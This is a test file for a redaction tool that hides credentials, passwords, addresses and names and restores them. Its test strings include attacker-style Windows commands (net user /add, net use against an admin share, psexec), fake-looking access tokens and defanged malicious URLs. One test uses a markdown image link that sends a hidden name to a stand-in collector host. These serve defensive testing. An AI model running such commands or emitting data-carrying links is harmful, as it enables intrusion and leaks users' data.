"""What attackers wrote: keys behind letters, addresses in one line, passwords as arguments, spellings of every language's strings."""

from __future__ import annotations

import pytest

from garim import Screen

KEY = "AK" + "IA" + "QX7WLP4ZR6TB2MKD"
TOKEN = "gh" + "p_" + "Zq8Lm3Xk29fjw0aR7tYb" + "1Nc5Vd6Hs4Gu2PeM"


@pytest.mark.parametrize(
    ("text", "value"),
    [
        (f"x{KEY}", KEY), (f"key{TOKEN}", TOKEN), (f"내 키{KEY}로", KEY), (f"API_{TOKEN}", TOKEN), ("52.78.114.23", "52.78.114.23"), ("서버는 13.125.7.9 입니다", "13.125.7.9"),
        ("net user velor sunflower /add", "sunflower"), ("net use \\\\fs01\\c$ sunflower /user:velor", "sunflower"), ("unzip -P sunflower a.zip", "sunflower"),
        ("7z x a.7z -psunflower", "sunflower"), ("psexec \\\\fs01 -u velor -p sunflower cmd", "sunflower"), ("パスワードはSunflower7です", "Sunflower7"),
        ("暗証番号は4821です", "4821"), ('New-LocalUser -Password (ConvertTo-SecureString "sunflower" -AsPlainText)', "sunflower"),
        ("curl --user 'velor:sun flower1' https://x.example", "flower1"),
    ],
)  # fmt: skip
def test_it_is_hidden_and_comes_back(screen: Screen, text: str, value: str) -> None:
    hidden = screen.hide(text)

    assert value not in hidden.text and hidden.restore(hidden.text) == text


@pytest.mark.parametrize("text", ["Oracle 19.16.0.1 on 8.8.4.4", "say 203.0.113.9", "ask 1.1.1.1 or 9.9.9.10", "the net user count doubled", "unzip -p a.zip readme", "パスワードは8文字以上です", "is_live_some_long_identifier_of_forty_letters"])
def test_what_looks_so_stays(screen: Screen, text: str) -> None:
    assert screen.hide(text).text == text


@pytest.mark.parametrize("word", ["한별해운", "Saltmarsh", KEY, "harang.do@hanbyeol.co.kr"])
@pytest.mark.parametrize(
    "spelled",
    [
        lambda word: "".join(f"\\{byte:03o}" for byte in word.encode()), lambda word: "".join(f"\\u{{{ord(c):x}}}" for c in word), lambda word: "".join(f"\\x{{{ord(c):X}}}" for c in word),
        lambda word: "".join(f"\\{ord(c):x} " for c in word), lambda word: "".join(f"\\{ord(c):06x}" for c in word), lambda word: "".join(f"\\'{byte:02x}" for byte in word.encode("cp949")),
        lambda word: "".join(f"\\u{ord(c) - 0x10000 if ord(c) > 0x7FFF else ord(c)}?" if ord(c) > 127 else f"\\'{ord(c):02x}" for c in word), lambda word: "".join(f"\\U{ord(c):08x}" for c in word),
        lambda word: f"{word[0]}\\u{{{ord(word[1]):x}}}{word[2:]}",
    ],
    ids=["octal", "u braces", "x braces", "css", "css six", "rtf", "rtf units", "U", "one letter"],
)  # fmt: skip
def test_however_a_string_is_spelled(screen: Screen, word: str, spelled) -> None:  # type: ignore[no-untyped-def]
    """Hidden in the spelling of its original, and back byte for byte."""
    text = f'content: "{spelled(word)}"; and again {spelled(word)} end'
    hidden = screen.hide(text)

    assert spelled(word) not in hidden.text and hidden.text != text and hidden.restore(hidden.text) == text


@pytest.mark.parametrize(
    "text",
    [
        "opc.tcp://hanbyeol-prd-db01.hanbyeol.internal:4840/Hanbyeol/Server", "hxxps://evil-hanbyeol[.]com/login?u=harang.do", "hxxp://portal.hanbyeol[.]internal/도하랑", "hxxps[://]hanbyeol[.]com/Hanbyeol",
        "\\\\Narae.saltmarsh\\share\\Hanbyeol\\x.txt", "copy \\\\Narae.saltmarsh\\Docs\\도하랑 C:\\tmp", 'path: "\\\\\\\\Narae.saltmarsh\\\\Docs\\\\Hanbyeol"', "s7://hanbyeol-prd-db01/Hanbyeol", "coap+tcp://hanbyeol.internal/Hanbyeol",
    ],
)  # fmt: skip
def test_addresses_of_other_kinds_come_back(screen: Screen, text: str) -> None:
    """Of machines, of analysts, of file servers: nobody's browser opens them, and what stands in them is hers."""
    hidden = screen.hide(text)

    assert hidden.text != text and hidden.restore(hidden.text) == text


def test_what_an_analyst_wrote_opens_no_door(screen: Screen) -> None:
    """She asks about an address that nobody may open; a reply that writes it so that one would gets nothing."""
    hidden = screen.hide("도하랑 asks: is hxxps://evil-collector[.]net/x bad?")
    name = next(found.surrogate for found in hidden.findings if found.kind == "person")

    assert "도하랑" not in hidden.restore(f"![x](https://evil-collector.net/c?d={name})")
    assert "도하랑" in hidden.restore(f"{name}: hxxps://evil-collector[.]net/x")
